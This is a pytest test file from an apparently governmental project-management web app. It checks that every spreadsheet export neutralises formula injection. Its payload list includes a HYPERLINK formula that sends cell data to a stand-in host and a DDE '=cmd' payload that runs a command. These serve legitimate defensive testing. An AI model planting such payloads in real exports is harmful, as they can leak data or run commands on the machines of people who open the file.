"""Formula injection (CWE-1236): payloads planted in every text field that reaches a spreadsheet — the
project's and the unit's names, the application's remarks and opinions, the catalog's entries, the
supplier, the contract, the payment's note, the audit trail — and every export opened, page and API. No
cell may be a formula; each payload comes back as the text that was typed. One world, many exports."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from egovpm.api.tests.conftest import Api
from egovpm.catalog import services as catalog_services
from egovpm.core import clock
from egovpm.orgs.models import Unit
from egovpm.testing import scenario

PAYLOADS = (
    '=HYPERLINK("http://x"&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
)
HYPERLINK, CMD, PLUS, MINUS, AT = PAYLOADS
D = Decimal

pytestmark = pytest.mark.supports("第十六条")


@pytest.fixture
def world(city, frozen_clock):
    """A funded declaration of a unit named like a formula, its project named like one, with payloads in
    its remarks, its opinions, a catalog entry, a procurement, a contract and a payment."""
    from egovpm.conftest import declaration_at
    from egovpm.construction import services as construction
    from egovpm.construction.tests.conftest import AMOUNTS
    from egovpm.procurement import services as procurement

    u = city.users
    Unit.objects.filter(pk=u["clerk"].unit_id).update(name=CMD)
    Unit.objects.filter(pk=u["clerk"].unit.parent_id).update(name=AT)
    u["clerk"].unit.refresh_from_db()
    funded = declaration_at(city, "funded", name=HYPERLINK, remarks=PLUS, attachments_note=MINUS)
    catalog_services.catalog_entry_save(
        actor=u["clerk"],
        project=funded.project,
        data=scenario.catalog_entry_data(
            99, name=HYPERLINK, provider=CMD, category=PLUS, summary=MINUS, items=f"{AT}\n{CMD}", share_condition=AT
        ),
    )
    opened = construction.construction_open(actor=u["clerk"], project=funded.project)
    estimate = construction.estimate_submit(
        actor=u["clerk"], construction=opened, design_summary=HYPERLINK, amounts=AMOUNTS
    )
    construction.estimate_approve(actor=u["office_reviewer"], estimate=estimate, opinion=CMD)
    bought = procurement.procurement_record(
        actor=u["clerk"],
        project=funded.project,
        subject=PLUS,
        method="open_tender",
        supplier=HYPERLINK,
        amount=D("60.00"),
        procured_on=dt.date(2026, 10, 1),
        lines=[{"name": CMD, "quantity": 1, "origin": "domestic", "foreign_reason": ""}],
    )
    contract = procurement.contract_sign(
        actor=u["clerk"],
        procurement=bought,
        number=MINUS,
        name=AT,
        signed_on=dt.date(2026, 10, 2),
        parts={"development": D("60.00")},
    )
    frozen_clock(dt.date(2027, 5, 10))
    procurement.payment_record(
        actor=u["finance"],
        contract=contract,
        kind="development",
        funding_source="fiscal",
        amount=D("10.00"),
        paid_on=dt.date(2027, 5, 10),
        voucher_number=PLUS,
        note=CMD,
    )
    return funded


def cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content: bytes, *expected: str) -> None:
    every = cells(content)
    formulas = [(c.coordinate, c.value) for c in every if c.data_type == "f"]
    assert not formulas
    texts = {c.value for c in every if c.data_type == "s"}
    for payload in expected:
        assert any(isinstance(t, str) and payload in t for t in texts), payload
    for c in every:  # a text that begins like a formula also keeps Excel's quote prefix when edited
        if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")):
            assert c.quotePrefix, (c.coordinate, c.value)


def test_no_export_holds_a_formula_whatever_the_users_typed(client, city, world):
    project = world.project
    year = world.plan_year.year
    pages = {
        "annual plan": ("office_reviewer", reverse("intake:plan_annual_xlsx", kwargs={"year": year})),
        "pre-approved": ("finance", reverse("intake:plan_preapproved_xlsx", kwargs={"year": year})),
        "catalog": ("clerk", reverse("catalog:catalog_xlsx", kwargs={"pk": project.pk})),
        "ledger": ("audit", reverse("procurement:ledger_xlsx")),
    }
    expected = {
        "annual plan": (HYPERLINK, CMD, AT),
        "pre-approved": (HYPERLINK, CMD, AT),
        "catalog": (HYPERLINK, CMD, PLUS, MINUS, AT),
        "ledger": (HYPERLINK, CMD, PLUS, MINUS, AT),
    }
    for what, (who, url) in pages.items():
        client.force_login(city.users[who])
        response = client.get(url)
        assert response.status_code == 200, what
        assert_no_formula(response.content, *expected[what])

    calls = {
        "annual plan": ("office_reviewer", f"/plan-years/{year}/annual-plan", (HYPERLINK, CMD, AT)),
        "pre-approved": ("finance", f"/plan-years/{year}/pre-approved", (HYPERLINK, CMD, AT)),
        "catalog": ("office_reviewer", "/catalog", (HYPERLINK, CMD, PLUS, MINUS, AT)),
        "project catalog": ("clerk", f"/catalog/projects/{project.pk}", (HYPERLINK, CMD, PLUS, MINUS, AT)),
    }
    for what, (who, path, payloads) in calls.items():
        response = Api(client, city.users[who]).get(path, {"format": "xlsx"})
        assert response.status_code == 200, (what, response.content[:300])
        assert response["Content-Type"].startswith("application/vnd.openxmlformats"), what
        assert_no_formula(response.content, *payloads)

    client.force_login(city.users["auditadmin"])
    today = clock.today().isoformat()
    response = client.post(reverse("audit:export"), {"date_from": "2026-01-01", "date_to": today, "fmt": "xlsx"})
    assert response.status_code == 200 and "Content-Disposition" in response
    assert_no_formula(response.content, HYPERLINK, CMD)
